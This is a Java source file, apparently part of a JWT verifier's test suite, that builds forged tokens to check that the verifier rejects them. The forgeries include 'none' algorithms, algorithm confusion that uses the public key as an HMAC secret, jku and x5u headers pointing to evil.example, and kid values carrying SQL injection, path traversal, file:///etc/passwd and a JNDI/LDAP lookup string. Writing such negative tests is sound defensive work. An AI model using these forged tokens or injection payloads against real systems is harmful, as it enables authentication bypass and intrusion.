package dev.latchkey.verifier.forged;

import static dev.latchkey.verifier.forged.Forge.b64;
import static dev.latchkey.verifier.forged.Forge.json;
import static dev.latchkey.verifier.forged.Forge.quoted;
import static dev.latchkey.verifier.forged.Forge.utf8;
import static dev.latchkey.verifier.forged.Forge.with;
import static dev.latchkey.verifier.forged.Forge.without;

import java.security.GeneralSecurityException;
import java.util.Arrays;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;

/** Other algorithms, the public key as a secret, keys that the token brings along, other types. */
final class ForgedHeaders {
    private ForgedHeaders() {}

    static void addTo(Forge forge) {
        algorithms(forge);
        secrets(forge);
        members(forge);
        types(forge);
        keyNames(forge);
    }

    private static void algorithms(Forge forge) {
        String claims = json(forge.claims());
        for (String none : List.of("none", "None", "NONE", "nOnE", "", " none", "null")) {
            Map<String, String> header = with(forge.header(), "alg", quoted(none));
            String unsigned = b64(json(header)) + "." + b64(claims) + ".";
            forge.add("alg " + none + " without signature", unsigned);
            forge.add("alg " + none + " with a signature", unsigned + b64(forge.signature()));
            forge.add("alg " + none + " signed", forge.signed(header, forge.claims()));
        }
        for (String other : List.of(
                "HS256",
                "HS384",
                "HS512",
                "RS256",
                "PS256",
                "ES384",
                "ES512",
                "ES256K",
                "EdDSA",
                "es256",
                "Es256",
                "ES256 ",
                "ES-256",
                "SHA256withECDSA",
                "dir",
                "RSA-OAEP",
                "PBES2-HS256+A128KW")) {
            forge.add("alg " + other, forge.signed(with(forge.header(), "alg", quoted(other)), forge.claims()));
        }
    }

    /** Whoever chooses the algorithm by the header takes the public key for the secret of an HMAC. */
    private static void secrets(Forge forge) {
        byte[] prefix = Base64.getDecoder().decode("MFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE");
        byte[] x = Base64.getUrlDecoder().decode(forge.published("x"));
        byte[] y = Base64.getUrlDecoder().decode(forge.published("y"));
        byte[] x509 = Arrays.copyOf(prefix, prefix.length + 64);
        System.arraycopy(x, 0, x509, prefix.length, 32);
        System.arraycopy(y, 0, x509, prefix.length + 32, 32);
        String pem = "-----BEGIN PUBLIC KEY-----\n"
                + Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(x509) + "\n-----END PUBLIC KEY-----\n";
        Map<String, byte[]> secrets = new LinkedHashMap<>();
        secrets.put("X.509", x509);
        secrets.put("PEM", utf8(pem));
        secrets.put("PEM without a last line break", utf8(pem.strip()));
        secrets.put("point", Arrays.copyOfRange(x509, 26, 91));
        secrets.put("x", utf8(forge.published("x")));
        secrets.put("kid", utf8(forge.published("kid")));
        secrets.put("zeros", new byte[32]);
        secrets.forEach((name, secret) -> {
            forge.add("HS256 with the public key as " + name, hmac(forge, "HmacSHA256", "HS256", secret));
            forge.add("HS512 with the public key as " + name, hmac(forge, "HmacSHA512", "HS512", secret));
            forge.add("ES256 by HMAC with the public key as " + name, hmac(forge, "HmacSHA512", "ES256", secret));
        });
    }

    private static void members(Forge forge) {
        String jwk = "{\"kty\":\"EC\",\"crv\":\"P-256\",\"x\":\"" + forge.published("y") + "\",\"y\":\""
                + forge.published("x") + "\"}";
        Map<String, String> extra = new LinkedHashMap<>(
                Map.of("jwk", jwk, "epk", jwk, "jku", "\"https://evil.example/jwks.json\"", "x5c", "[\"MIIB\"]"));
        extra.put("x5u", "\"https://evil.example/cert.pem\"");
        extra.put("x5t#S256", "\"AAAA\"");
        extra.put("crit", "[\"exp\"]");
        extra.put("b64", "false");
        extra.put("zip", "\"DEF\"");
        extra.put("enc", "\"A128GCM\"");
        extra.put("cty", "\"JWT\"");
        extra.put("p2c", "2147483647");
        extra.put("iss", quoted("https://latchkey.test"));
        extra.put("nonce", "\"x\"");
        extra.put("Alg", "\"none\"");
        extra.put("", "\"\"");
        extra.forEach((name, value) -> {
            forge.add("header " + name, forge.signed(with(forge.header(), name, value), forge.claims()));
            forge.add("header " + name + " null", forge.signed(with(forge.header(), name, "null"), forge.claims()));
        });
        Map<String, String> unencoded = with(with(forge.header(), "crit", "[\"b64\"]"), "b64", "false");
        forge.add("crit with b64", forge.signed(unencoded, forge.claims()));
        for (String name : List.of("alg", "typ", "kid")) {
            forge.add("no " + name, forge.signed(without(forge.header(), name), forge.claims()));
            for (String value : List.of("null", "1", "true", "[]", "{}", "\"\"")) {
                forge.add(name + " " + value, forge.signed(with(forge.header(), name, value), forge.claims()));
            }
            String header = json(forge.header());
            String twice = header.substring(0, header.length() - 1) + "," + quoted(name) + ":"
                    + forge.header().get(name) + "}";
            forge.add(name + " twice", forge.signed(twice, json(forge.claims())));
        }
    }

    private static void types(Forge forge) {
        for (String type : List.of(
                "JWT",
                "jwt",
                "at+JWT",
                "AT+JWT",
                "application/at+jwt",
                "at+jwt ",
                "rt+jwt",
                "refresh+jwt",
                "id+jwt",
                "dpop+jwt",
                "logout+jwt",
                "JOSE",
                "at+jwt\\u0000")) {
            forge.add("typ " + type, forge.signed(with(forge.header(), "typ", quoted(type)), forge.claims()));
        }
        forge.add("typ in a list", forge.signed(with(forge.header(), "typ", "[\"at+jwt\"]"), forge.claims()));
    }

    private static void keyNames(Forge forge) {
        String kid = forge.published("kid");
        for (String name : List.of(
                "unknown",
                "../../dev/null",
                "/dev/null",
                "' OR '1'='1",
                "x' UNION SELECT 'AAAA",
                "http://evil.example/key",
                "file:///etc/passwd",
                "%00",
                "\\u0000",
                kid + "\\u0000",
                kid + " ",
                " " + kid,
                kid.toLowerCase(Locale.ROOT),
                "${jndi:ldap://evil.example/a}",
                "k".repeat(64),
                "k".repeat(65),
                "k".repeat(2_000),
                "ключ",
                "\\ud800")) {
            forge.add("kid " + name, forge.signed(with(forge.header(), "kid", quoted(name)), forge.claims()));
        }
        String huge = quoted("k".repeat(10_000));
        forge.add("kid of 10 kB", forge.signed(with(forge.header(), "kid", huge), forge.claims()));
    }

    private static String hmac(Forge forge, String mac, String name, byte[] secret) {
        String content = b64(json(with(forge.header(), "alg", quoted(name)))) + "." + b64(json(forge.claims()));
        try {
            Mac hmac = Mac.getInstance(mac);
            hmac.init(new SecretKeySpec(secret, mac));
            return content + "." + b64(hmac.doFinal(utf8(content)));
        } catch (GeneralSecurityException e) {
            throw new AssertionError(e);
        }
    }
}
